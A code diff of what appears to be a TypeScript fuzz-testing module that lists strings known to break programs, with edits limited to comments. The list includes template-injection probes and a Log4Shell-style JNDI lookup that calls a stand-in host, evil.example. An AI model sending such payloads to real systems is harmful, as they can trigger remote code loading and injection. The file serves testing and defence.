@@ -3,7 +3,7 @@ import { readFileSync } from 'node:fs';
 const zalgo = (letters: string, marks: number) =>
   Array.from(letters, (letter) => letter + '\u0335\u0321\u0489\u036f'.repeat(marks)).join('');
 
-/** Strings that have broken programs, by what they try. All are data: whoever shows or keeps them may not obey them. */
+/** Strings that have broken programs, by kind of attack. */
 const kinds: Record<string, string[]> = {
   'what looks like nothing': ['', ' ', '\t\r\n', '\u00a0', '\u2003', '\u200b', '\u2060', '\ufeff', '\u3164', '\u115f'],
   'what looks like a value': [
@@ -119,7 +119,7 @@ const kinds: Record<string, string[]> = {
   ],
   'for a template': [
     '{{7*7}}',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it is
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
     '${7*7}',
     '#{7*7}',
     '<%= 7*7 %>',
@@ -129,7 +129,7 @@ const kinds: Record<string, string[]> = {
     '$1',
     '%%',
     '\\u0041',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it is
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
     '${jndi:ldap://evil.example/x}',
   ],
   'for a database': [
@@ -246,7 +246,7 @@ const kinds: Record<string, string[]> = {
   ],
 };
 
-/** Every string of ours, and those of a JSON file that `ROLLCALL_STRINGS` names (an array of strings). */
+/** The strings above and those in the JSON file that `ROLLCALL_STRINGS` names, an array of strings. */
 export const hostileStrings: string[] = [
   ...Object.values(kinds).flat(),
   ...(process.env.ROLLCALL_STRINGS ? (JSON.parse(readFileSync(process.env.ROLLCALL_STRINGS, 'utf8')) as string[]) : []),
